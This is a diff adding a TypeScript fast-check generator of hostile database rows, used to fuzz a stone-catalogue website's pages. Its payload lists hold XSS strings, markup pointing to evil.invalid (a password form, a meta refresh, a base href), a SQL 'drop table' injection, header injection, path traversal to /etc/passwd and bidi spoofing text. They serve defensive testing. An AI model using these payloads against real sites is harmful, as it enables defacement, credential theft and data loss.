@@ -1,0 +1,321 @@
+/**
+ * Rows that no editor would write and an attacker or a broken import might: every field, every kind of nonsense.
+ * The same seed gives the same rows.
+ */
+import fc from 'fast-check';
+import { PRODUCT_NAME_MAX_LENGTH, SLUG_MAX_LENGTH } from '#domain/catalogue/catalogue.rules.ts';
+import type { Collection } from '#domain/catalogue/collection.ts';
+import { stoneTypes } from '#domain/catalogue/material.ts';
+
+/** A row as it is sent to the database: of any type, and perhaps nothing that the database takes. */
+export interface HostileRow {
+  readonly slug: string | null;
+  readonly product_name: string | null;
+  readonly material_type: string | null;
+  readonly image_url: string | null;
+  readonly gallery_urls: readonly (string | null)[] | null;
+  readonly description: string | null;
+  readonly finishes: readonly (string | null)[] | null;
+  readonly custom_sizes: string | null;
+  /** The table of stone fixing only. */
+  readonly origin: string | null;
+  readonly sort_order: number | null;
+  readonly created_at: string;
+  readonly updated_at: string;
+}
+
+/** What would run, load, close or break something, were it taken for markup anywhere. */
+export const markupPayloads: readonly string[] = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '<!--<script>',
+  '--><script>alert(1)</script><!--',
+  ']]><script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '" onmouseover="alert(1)" x="',
+  "' onfocus='alert(1)' autofocus x='",
+  '` onfocus=alert(1) `',
+  ' onerror=alert(1) ',
+  '"/><base href="https://evil.invalid/">',
+  '</title><script>alert(1)</script>',
+  '</textarea></style></noscript></template><script>alert(1)</script>',
+  '</main></body></html><h1>gone</h1>',
+  '<main ><img alt="x" src="https://evil.invalid/x.jpg">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
+  '<link rel=stylesheet href=https://evil.invalid/x.css>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<form action=https://evil.invalid/><input name=password>',
+  '<a href="javascript:alert(1)">click</a>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<template shadowrootmode=open><slot></slot></template>',
+  '<astro-island component-url="https://evil.invalid/x.js"></astro-island>',
+  '</astro-island></astro-slot>',
+  '{"@context":"https://schema.org","@type":"Product"}',
+  '"}]}</script>',
+  '\\u003c/script\\u003e\\"\\\\',
+  '&lt;script&gt; &amp;amp; &#60;b&#62; &quot; &nbsp; &',
+  '{{7*7}} ${7*7} <%= 7*7 %> {user} #{x}',
+  "'; drop table public.extras; --",
+  '%3Cscript%3E%00%0d%0aSet-Cookie:%20a=b',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  '| Elite Stone',
+  '__proto__',
+  'constructor',
+];
+
+/** What is no markup and still upsets what reads, orders, cuts, logs or draws it. */
+export const unicodePayloads: readonly string[] = [
+  '\u202Eksed enots\u202C',
+  '\u202E\u2066\u2067\u2068 never closed',
+  'رخام كرارا الأبيض',
+  'אבן ירושלים (לבנה)',
+  'zero\u200Bwidth\u200C\u200D\u2060\uFEFFinside',
+  `combining${'\u0301\u0489\u035C'.repeat(40)}storm`,
+  '👩🏽‍🎨👨‍👩‍👧‍👦🏳️‍🌈🪨',
+  '\u{1F1FA}\u{1F1F8}'.repeat(10),
+  '\u{E0001}\u{E0041}tags',
+  'İıŞşẞß ﬁ ﷽',
+  '\uFFFD\uFFFE\uFFFF\u{10FFFF}',
+  'line\u2028paragraph\u2029separators',
+  'tab\tnew\nline\r\nreturn\rvertical\u000Bfeed\u000C',
+  'bell\u0007escape\u001B[31mred\u009B0mdelete\u007F',
+  'nbsp\u00A0\u3000wide',
+  '𝔐𝔞𝔯𝔟𝔩𝔢 ①②③',
+];
+
+/** Text that nobody sees, though it is not empty. */
+export const invisiblePayloads: readonly string[] = [
+  '\u200B',
+  '\u2060\uFEFF',
+  '\u00AD',
+  '\u3164',
+  '\u2800',
+  '\u202E',
+  '\u{E0020}',
+  '\u0000'.replace('\u0000', '\u0001'),
+];
+
+/** Addresses that a page would take for something else. All of them are sound slugs. */
+const reservedSlugs = [
+  'index', '404', '500', 'all', 'live', 'page', 'admin', 'fragments', 'collections', 'constructor', 'prototype',
+  'tostring', 'hasownproperty', 'null', 'undefined', 'nan', 'true', '0', '00', '1e3', 'con', 'aux', 'nul',
+  'robots', 'sitemap-index', 'sw', 'manifest', 'favicon', 'headers', 'redirects', 'netlify', 'astro',
+]; // prettier-ignore
+
+const brokenSlugs = [
+  '', ' ', '.', '..', '../admin', 'a/b', '/', 'a%2Fb', 'a\\b', 'Upper', 'ä', 'two--hyphens', '-front', 'end-', 'a b',
+  'new\nline', 'ends-with-newline\n', '<script>', 'a?b', 'a#b', 'a.html', '__proto__', '_headers', 'ＡＢＣ', '\u202Ea',
+  `${'a'.repeat(SLUG_MAX_LENGTH)}a`,
+]; // prettier-ignore
+
+const soundReferences = [
+  'a b.jpg',
+  'Folder (x)/File, & Co. 01.jpg',
+  '"quoted" \'name\'.png',
+  '<img src=x onerror=alert(1)>.jpg',
+  '100%.jpg',
+  'a%2Fb.jpg',
+  '?query#fragment.jpg',
+  'emoji 🪨.webp',
+  'رخام.jpg',
+  'srcset, comma 2x.jpg',
+  '\u202Egpj.exe',
+  'https://pictures.invalid/a.jpg',
+  'https://pictures.invalid/a,b c.jpg?x=1&y="2"#f',
+  'http://pictures.invalid:8080/a.jpg',
+  'HTTPS://PICTURES.INVALID/UPPER.JPG',
+  'https://user:word@pictures.invalid/a.jpg',
+  'https://[::1]/a.jpg',
+  'https://pictures.invalid/%E0%A4',
+  '//pictures.invalid/protocol-relative.jpg',
+  '  spaces around.jpg  ',
+  '/leading/slash.jpg',
+  '___ASTRO_IMAGE___.jpg',
+];
+
+const brokenReferences = [
+  'javascript:alert(1)',
+  ' JaVaScRiPt:alert(1)',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'vbscript:x',
+  'file:///etc/passwd',
+  'blob:https://x.invalid/1',
+  'https://',
+  'http:///nowhere.jpg',
+  'https://exa mple.invalid/x.jpg',
+  'https://pictures.invalid:99999/x.jpg',
+  '../../secret.jpg',
+  'a/../b.jpg',
+  'a//b.jpg',
+  './a.jpg',
+  'new\nline.jpg',
+  'null\u0001byte.jpg',
+];
+
+/** Postgres holds no such text: the database itself must refuse the row, or never see the code point. */
+const impossiblePayloads = ['nul\u0000byte', 'lone\uD800surrogate', '\uDC00\uD800'];
+
+const absurdDates = ['infinity', '-infinity', '294276-12-31', '4713-01-01 BC', '1970-01-01', '2026-02-30'];
+
+/** Any code point, some of them in a storm; may be long. */
+const anyText = fc.oneof(
+  { weight: 4, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }).map(withoutNul) },
+  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
+  {
+    weight: 1,
+    arbitrary: fc.string({
+      unit: fc.constantFrom('<', '>', '"', "'", '`', '&', '/', '\\', '=', ' '),
+      maxLength: 30,
+    }),
+  },
+);
+
+const nastyText = fc.oneof(
+  { weight: 5, arbitrary: fc.constantFrom(...markupPayloads) },
+  { weight: 4, arbitrary: fc.constantFrom(...unicodePayloads) },
+  {
+    weight: 3,
+    arbitrary: fc
+      .array(fc.oneof(fc.constantFrom(...markupPayloads, ...unicodePayloads), anyText), {
+        minLength: 2,
+        maxLength: 4,
+      })
+      .map((parts) => parts.join('')),
+  },
+  { weight: 3, arbitrary: anyText },
+  { weight: 1, arbitrary: fc.constantFrom(...invisiblePayloads) },
+);
+
+const hugeText = fc
+  .tuple(
+    fc.constantFrom(...markupPayloads, ...unicodePayloads, 'word ', 'x'),
+    fc.integer({ min: 1, max: 400 }),
+  )
+  .map(([part, times]) => part.repeat(times * Math.ceil(40 / part.length)));
+
+const tamedName = nastyText.map((text) => [...text].slice(0, PRODUCT_NAME_MAX_LENGTH / 2).join(''));
+
+/** Mostly something that gets through, so that the pages are put to the test and not only the door. */
+function mostly<Value>(
+  sound: fc.Arbitrary<Value>,
+  broken: fc.Arbitrary<Value>,
+  weight = 40,
+): fc.Arbitrary<Value> {
+  return fc.oneof({ weight, arbitrary: sound }, { weight: 1, arbitrary: broken });
+}
+
+const impossible = fc.constantFrom(...impossiblePayloads);
+
+const optionalText = mostly(
+  fc.oneof(
+    { weight: 1, arbitrary: fc.constantFrom(null, '', ' ', 'Plain words.') },
+    { weight: 6, arbitrary: nastyText },
+  ),
+  fc.oneof(hugeText, impossible),
+);
+
+const reference = mostly(
+  fc.constantFrom(...soundReferences),
+  fc.oneof(fc.constantFrom(...brokenReferences), nastyText),
+  60,
+);
+
+/**
+ * @param number makes the slug one of its own
+ * @param pictures references that lead to a file in the collection's bucket
+ */
+export function arbitraryRow(
+  collection: Collection,
+  number: number,
+  pictures: readonly string[] = ['missing/Picture 01.jpg'],
+): fc.Arbitrary<HostileRow> {
+  const picture = fc.oneof(fc.constantFrom(...pictures), reference);
+  const reserved = reservedSlugs[number];
+  const sound = reserved ?? `piece-${number}`;
+  return fc.record({
+    slug: mostly(
+      fc.constant(sound),
+      fc.oneof(
+        // Told apart by their number, as the database wants them.
+        fc.constantFrom(...brokenSlugs).map((slug) => (slug.trim() === '' ? slug : `${number}${slug}`)),
+        nastyText,
+        impossible,
+        fc.constant(null),
+      ),
+    ),
+    product_name: mostly(
+      tamedName,
+      fc.oneof(
+        fc.constantFrom('', '   ', '\n', null),
+        hugeText,
+        impossible,
+        fc.constantFrom(...invisiblePayloads),
+      ),
+    ),
+    material_type: collection.hasTypeFilter
+      ? mostly(
+          fc.constantFrom(...stoneTypes),
+          fc.oneof(fc.constantFrom('marble', 'Kryptonite', ''), nastyText),
+        )
+      : mostly(
+          fc.oneof(fc.constantFrom<string>(...stoneTypes), tamedName),
+          fc.oneof(fc.constantFrom('', ' '), hugeText),
+        ),
+    image_url: fc.oneof(
+      { weight: 1, arbitrary: fc.constantFrom(null, '', ' ') },
+      { weight: 5, arbitrary: picture },
+    ),
+    gallery_urls: mostly(
+      fc.array(picture, { maxLength: 6 }).chain((list) =>
+        // The same picture again and again, as in a cycle.
+        fc
+          .nat({ max: 3 })
+          .map((times) => [...list, ...Array.from({ length: times }, () => list[0] ?? 'again.jpg')]),
+      ),
+      fc.constantFrom<readonly (string | null)[] | null>(null, [null], [''], ['a.jpg', null]),
+    ),
+    description: optionalText,
+    finishes: mostly(
+      fc.array(nastyText, { maxLength: 4 }),
+      fc.constantFrom<readonly (string | null)[] | null>(null, [null], [''], [' ', '\u200B']),
+    ),
+    custom_sizes: optionalText,
+    origin: optionalText,
+    sort_order: mostly(
+      fc.oneof(fc.integer({ min: -5, max: 5 }), fc.constantFrom(-2147483648, 2147483647, 0)),
+      fc.constantFrom(null, 2147483648, 1.5, Number.MAX_SAFE_INTEGER, Number.NaN),
+    ),
+    created_at: fc.constantFrom('now', ...absurdDates.slice(0, -1)),
+    updated_at: mostly(
+      fc.constantFrom('now', ...absurdDates.slice(0, -1)),
+      fc.constantFrom('2026-02-30', 'never'),
+    ),
+  });
+}
+
+/** The same rows for the same seed. */
+export function sampleRows(options: {
+  collection: Collection;
+  count: number;
+  seed: number;
+  firstNumber?: number;
+  pictures?: readonly string[];
+}): HostileRow[] {
+  const { collection, count, seed, firstNumber = 0, pictures } = options;
+  return Array.from({ length: count }, (_, index) => {
+    const number = firstNumber + index;
+    const [row] = fc.sample(arbitraryRow(collection, number, pictures), {
+      seed: seed * 1_000_003 + number,
+      numRuns: 1,
+    });
+    if (!row) throw new Error('fast-check gave no row.');
+    return row;
+  });
+}
+
+function withoutNul(text: string): string {
+  return text.replaceAll('\u0000', '');
+}
